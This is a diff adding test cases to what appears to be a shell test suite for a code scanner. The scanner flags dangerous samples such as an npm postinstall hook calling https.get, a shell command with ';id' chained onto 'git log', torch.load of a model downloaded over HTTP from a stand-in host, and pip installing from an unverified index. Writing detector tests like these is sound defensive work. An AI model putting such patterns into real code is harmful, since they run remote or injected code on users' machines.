@@ -223,4 +223,19 @@ printf '{"scripts": {"postinstall": "node -e \\"require(\047https\047).get(\047h
 hostile COMMAND_DANGEROUS "program text for Node.js"
 printf '{"scripts": {"postinstall": "node scripts/copy.js", "v": "node -p process.version"}}' | file package.json
 quiet "a script of Node.js"
+# --- commands and loaders in Python
+printf 'import subprocess\nrev = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode()\nsubprocess.run("nvidia-smi", shell=True)\n' | file a.py
+run assay-inspect "$tmp/b"
+ok "what only asks is no use of a command" sh -c "! grep -q \"use of\" $out"
+printf 'import subprocess\nsubprocess.run("git log; id", shell=True)\n' | file a.py
+run assay-inspect "$tmp/b"
+prints "use of 'run'"
+printf 'import shutil\nshutil.rmtree("out", ignore_errors=True)\n' | file a.py
+quiet "a folder is removed"
+printf 'import torch, io, requests\ntorch.load(io.BytesIO(requests.get("http://x/m.pt").content))\n' | file a.py
+hostile SOURCE_DANGEROUS "objects that are downloaded"
+printf 'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://models.example/simple", "x"])\n' | file a.py
+hostile SOURCE_DANGEROUS "packages of an index that nobody proves"
+printf 'pip install --index-url http://localhost:3141/simple x\n' | file a.sh
+quiet "an index of this machine"
 done_testing
